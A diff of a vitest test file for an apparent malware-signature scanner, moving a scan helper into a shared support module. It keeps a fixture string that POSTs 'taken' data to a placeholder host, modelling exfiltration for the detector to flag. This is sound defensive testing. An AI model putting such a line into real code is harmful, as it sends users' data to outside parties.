@@ -1,17 +1,5 @@
-import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
-import { completeSet, loadSignatures, scanSignatures } from '../../../src/signatures/index.js';
-import { memoryTree } from '../../support/memory-tree.js';
-
-const signatures = completeSet(
-  await loadSignatures(fileURLToPath(new URL('../../../signatures', import.meta.url))),
-);
-
-async function rulesIn(code: string): Promise<string[]> {
-  const tree = memoryTree({ 'index.js': code });
-  const { findings } = await scanSignatures({ tree, packages: [], signatures });
-  return findings.map(({ rule }) => rule);
-}
+import { rulesIn } from '../../support/rules-in.js';
 
 const SEND = "fetch('https://c.example.invalid', { method: 'POST', body: JSON.stringify(taken) })";
 
